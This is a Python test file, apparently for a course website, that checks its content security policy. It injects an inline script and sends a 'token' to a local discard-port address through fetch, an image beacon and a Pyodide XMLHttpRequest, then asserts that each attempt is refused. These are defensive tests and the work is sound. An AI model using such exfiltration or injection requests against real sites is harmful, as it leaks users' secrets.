"""The policy in a page: nothing gets out, and the site goes on working."""

import json
import os
import re
import shutil
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect
from support.served_verb import free_port

from course.paths import ROOT

from .building import addresses_of, one_of_each_kind
from .instant import change_instantly, follow, open_first
from .watching import Troubles

# Two ways out of a worker, and a text that would be run.
OUT = """
import js
from pyodide.code import run_js

def tried(what):
    try:
        return what()
    except Exception as error:
        return str(error).partition(":")[0]

def send():
    request = js.XMLHttpRequest.new()
    request.open("GET", "http://127.0.0.1:9/?token", False)
    request.send()
    return request.status

print(tried(send))
print(tried(lambda: run_js("1 + 1")))
"""
# Seconds that a machine with other work may take to build the site.
BUILD = 180
RUN = """async (code) => {
    const { Project } = await import("/assets/python/runtime.js");
    const project = await Project.start({ step: "01" });
    return (await project.run(code)).outputs;
}"""


@pytest.fixture
def violations(page: Page) -> list[str]:
    """What the policy did not let happen on this page."""
    page.add_init_script(
        "window.refused = [];"
        "addEventListener('securitypolicyviolation', "
        "(event) => refused.push(`${event.effectiveDirective} ${event.blockedURI}`))"
    )
    return []


def refused(page: Page) -> list[str]:
    """Return what the policy has refused so far."""
    return page.evaluate("refused")


def allow_errors(troubles: Troubles) -> None:
    """This test is about what fails."""
    troubles.noticed.clear()


@pytest.mark.usefixtures("violations")
def test_a_page_cannot_reach_another_host(page: Page, troubles: Troubles) -> None:
    page.goto("/glossary/")

    said = page.evaluate(
        "fetch('http://127.0.0.1:9/?token').then(() => 'sent', () => 'refused')"
    )
    page.evaluate("new Image().src = 'http://127.0.0.1:9/?token'")
    page.wait_for_function("refused.length > 1")

    assert said == "refused"
    assert [each.partition(" ")[0] for each in refused(page)] == [
        "connect-src",
        "img-src",
    ]
    allow_errors(troubles)


@pytest.mark.usefixtures("violations")
def test_a_script_that_came_into_a_page_is_not_run(
    page: Page, troubles: Troubles
) -> None:
    page.goto("/glossary/")

    page.evaluate(
        "document.body.append(document.createRange().createContextualFragment("
        "'<script>window.ran = true</script>'))"
    )

    assert page.evaluate("window.ran") is None
    assert refused(page) == ["script-src-elem inline"]
    allow_errors(troubles)


@pytest.mark.usefixtures("runtime")
def test_python_in_the_tab_cannot_reach_another_host(
    page: Page, troubles: Troubles
) -> None:
    page.goto("/glossary/")

    (printed,) = page.evaluate(RUN, OUT)

    assert printed["text"].splitlines() == ["NetworkError", "EvalError"]
    allow_errors(troubles)


@pytest.mark.usefixtures("violations")
def test_pages_of_any_kind_can_follow_each_other(
    page: Page, site: str, built: Path
) -> None:
    """With navigation.instant all of them stand under the policy of the first."""
    change_instantly(page, site)
    open_first(page, "/")

    for address in one_of_each_kind(addresses_of(built)):
        if address != "/404.html":
            follow(page, address)

    assert refused(page) == []


@pytest.fixture
def served(tmp_path: Path) -> Iterator[tuple[str, Path]]:
    """`mkdocs serve` of a copy of docs/: its address, and that folder."""
    docs = tmp_path / "docs"
    shutil.copytree(ROOT / "docs", docs)
    config = tmp_path / "mkdocs.yml"
    settings = {
        "INHERIT": str(ROOT / "mkdocs.yml"),
        "docs_dir": str(docs),
        "hooks": [str(ROOT / "course/website/hooks.py")],
        "watch": [],
    }
    config.write_text(json.dumps(settings), encoding="utf-8")
    port = free_port()
    command = ["-m", "mkdocs", "serve", "--quiet", "--config-file", str(config)]
    log = tmp_path / "log"
    sink = log.open("wb")
    process = subprocess.Popen(
        [sys.executable, *command, "--dev-addr", f"127.0.0.1:{port}"],
        cwd=ROOT,
        env={
            **os.environ,
            "LEARN_HOME": str(tmp_path / ".learn"),
            "NO_MKDOCS_2_WARNING": "1",
        },
        stdin=subprocess.DEVNULL,
        stdout=sink,
        stderr=sink,
    )
    try:
        # It builds the whole site before it listens.
        deadline = time.monotonic() + BUILD
        while process.poll() is None and not listens(port):
            assert time.monotonic() < deadline, log.read_text("utf-8")
            time.sleep(0.1)
        assert process.poll() is None, log.read_text("utf-8")
        yield f"http://127.0.0.1:{port}", docs
    finally:
        process.kill()
        process.wait()
        sink.close()


def listens(port: int) -> bool:
    """Return whether somebody answers at a port of this machine."""
    try:
        socket.create_connection(("127.0.0.1", port), timeout=1).close()
    except OSError:
        return False
    return True


def test_a_page_that_is_served_is_loaded_again_when_it_changes(
    chromium: Browser, served: tuple[str, Path]
) -> None:
    address, docs = served
    troubles: Any = Troubles(address)
    with chromium.new_context(base_url=address) as context:
        page = context.new_page()
        troubles.watch(page)
        # The first answer says which version this is; the next one comes with a change.
        with page.expect_request(re.compile(r"/livereload/[1-9]\d*/")):
            page.goto("/glossary/")

        text = (docs / "glossary.md").read_text(encoding="utf-8")
        changed = text.replace("# Glossary", "# Changed", 1)
        (docs / "glossary.md").write_text(changed, encoding="utf-8")

        expect(page.locator("article h1")).to_contain_text("Changed", timeout=60_000)
        # Kept as it is served: its pages are what the list says.
        page.wait_for_selector("html[data-kept]", state="attached")
        noticed = list(troubles.noticed)
    assert noticed == []
